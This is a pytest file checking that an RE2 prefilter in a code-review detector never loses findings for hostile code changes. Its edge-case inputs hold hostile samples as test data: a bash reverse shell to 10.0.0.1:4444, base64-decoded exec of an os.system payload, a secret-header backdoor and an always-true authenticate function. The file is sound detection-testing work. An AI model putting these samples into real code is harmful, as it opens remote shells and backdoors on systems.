"""The code review's screen (foothold/detections/code_signals/screen.py) skips work and never a finding.

The screen is one RE2 pass over every signal's patterns, relaxed so that it matches whatever the Python
pattern matches; a signal it rules out is not run. These tests prove it covers every signal, that each
relaxed pattern matches every corpus line its Python pattern matches, and that the review screened and
unscreened gives the same findings, in the same order, over the whole code corpus.
"""

from __future__ import annotations

import functools
import re
from dataclasses import replace
from typing import Any

import pytest
import re2

from foothold.detections.code_changes import CodeChange, changes_from_tool_call
from foothold.detections.code_signals import review_changes
from foothold.detections.code_signals.review import _CHECKS, _plan, screen_gates
from foothold.detections.code_signals.rules import load_code_rules
from foothold.detections.code_signals.screen import AcrossLines, Screen, ScreenPattern, to_re2
from tests.test_code_corpus import PARTS, arguments, load

# Checks that are never skipped, on purpose (review.py says why next to each).
UNSCREENED_KINDS = {"hardcoded_secret", "new_dependency"}


def corpus_changes() -> list[list[CodeChange]]:
    """Every corpus case's changes; each change reversed (its added lines removed and the other way round), so
    the removed-line screens see as much code as the added-line ones; and each moved into a build script that
    is also an auth file, so the signals that apply by path (install hooks, auth) see all of it."""
    out = []
    for name in PARTS:
        for case in load(name):
            changes = changes_from_tool_call(case["tool"], arguments(case))
            out.append(changes)
            out.append([replace(c, added=c.removed, removed=c.added, after=None) for c in changes])
            out.append([replace(c, path="/srv/app/auth/setup.py") for c in changes])
    return out


@functools.cache
def corpus_lines() -> list[str]:
    return sorted({line for changes in corpus_changes() for c in changes for line in (*c.added, *c.removed)})


def all_screen_patterns() -> list[ScreenPattern]:
    rules = load_code_rules()
    patterns = [p for patterns in screen_gates(rules).values() for p in patterns]
    return patterns + [s.removed_only for s in rules.signals if s.removed_only is not None]


def test_every_signal_pattern_and_every_check_is_covered_by_the_screen() -> None:
    rules = load_code_rules()
    plan = _plan(rules)
    gates = screen_gates(rules)
    for signal in rules.signals:
        if signal.added is not None:
            assert gates[f"added:{signal.id}"] == (signal.added,)
            assert f"added:{signal.id}" in plan.added.screened, f"{signal.id}: its added regex is not screened"
        if signal.removed_only is not None:
            assert f"removed:{signal.id}" in plan.removed.screened, f"{signal.id}: removed_only is not screened"
        if signal.kind is not None and signal.kind not in UNSCREENED_KINDS:
            assert _CHECKS[signal.kind].screen, f"check {signal.kind} declares no SCREEN"
            assert f"kind:{signal.kind}" in plan.added.screened, f"check {signal.kind} is not screened"
    assert plan.added.unscreened == {f"kind:{kind}" for kind in UNSCREENED_KINDS}
    assert not plan.removed.unscreened


def test_a_new_signal_is_screened_without_being_listed_anywhere() -> None:
    rules = load_code_rules()
    extra = replace(rules.signals[0], id="planted_signal", added=re.compile(r"plant(?=ed)\w{3,9}\b"), kind=None)
    planted = replace(rules, signals=(*rules.signals, extra))
    assert "added:planted_signal" in _plan(planted).added.screened
    (change,) = changes_from_tool_call("Write", {"file_path": "/r/x.py", "content": "x = 1\ny = planted_value\n"})
    assert "planted_signal" in {f.signal for f in review_changes([change], planted)}
    (clean,) = changes_from_tool_call("Write", {"file_path": "/r/x.py", "content": "x = 1\n"})
    assert "added:planted_signal" not in _plan(planted).added.passed("\n".join(clean.added))


def _name(pattern: ScreenPattern) -> str:
    regex = pattern.pattern if isinstance(pattern, AcrossLines) else pattern
    return regex.pattern[:40]


@pytest.mark.parametrize("pattern", all_screen_patterns(), ids=_name)
def test_each_relaxed_pattern_matches_every_corpus_line_its_python_pattern_matches(pattern: ScreenPattern) -> None:
    relaxed = re2.compile(to_re2(pattern))
    lines = corpus_lines()
    if isinstance(pattern, AcrossLines):  # tried on a line joined to the next one's stripped text
        texts = [(a + b.strip(), f"{a}\n{b}") for a, b in zip(lines, lines[1:], strict=False)]
        python = pattern.pattern
    else:
        texts = [(line, line) for line in lines]
        python = pattern
    missed = [shown for tried, shown in texts if python.search(tried) and not relaxed.search(shown)]
    assert not missed, missed[:5]


def test_review_is_the_same_screened_and_unscreened_over_the_whole_code_corpus() -> None:
    found: set[str] = set()
    for changes in corpus_changes():
        screened = review_changes(changes)
        assert screened == review_changes(changes, screened=False), [c.path for c in changes]
        found.update(f.signal for f in screened)
    assert found == {s.id for s in load_code_rules().signals}  # every signal fired somewhere: every gate opened


@pytest.mark.parametrize(
    "content",
    [
        # A decoded literal whose call runs over a line break: the check joins the line to the next one.
        'x = b64de\n    code("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=")\n',
        'import base64\nexec(base64.b64decode(\n    "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))\n',
        # Non-ASCII text is not screened (Unicode \\w and \\b differ between Python and RE2).
        "# café\nimport os\nos.system(base64.b64decode(payload_é))\n",
        # Python's \\s has \\v and \\x1c-\\x1f, RE2's has not: spelt out in the relaxed form.
        "import socket,subprocess,os\nos.dup2(s.fileno(),\x0b0)\nbash -i >&\x1c/dev/tcp/10.0.0.1/4444 0>&1\n",
        'if request.headers.get("X-Knock") == "opensesame":\n    return True\n',
        "def authenticate(user, pw):\n    return True\n",
    ],
)
def test_edge_cases_give_the_same_findings_screened_and_unscreened(content: str) -> None:
    (change,) = changes_from_tool_call("Write", {"file_path": "/srv/app/auth.py", "content": content})
    assert review_changes([change]) == review_changes([change], screened=False)


def test_a_text_the_screen_cannot_judge_runs_every_gate() -> None:
    screen = Screen({"a": (re.compile(r"\w+é"),), "b": (re.compile("never"),)})
    assert screen.passed("plain") == frozenset()
    assert screen.passed("café") == {"a", "b"}  # not ASCII: nothing is skipped
    backreference: Any = re.compile(r"(a)\1")
    assert Screen({"c": (backreference,)}).unscreened == {"c"}  # no RE2 form: the gate always passes
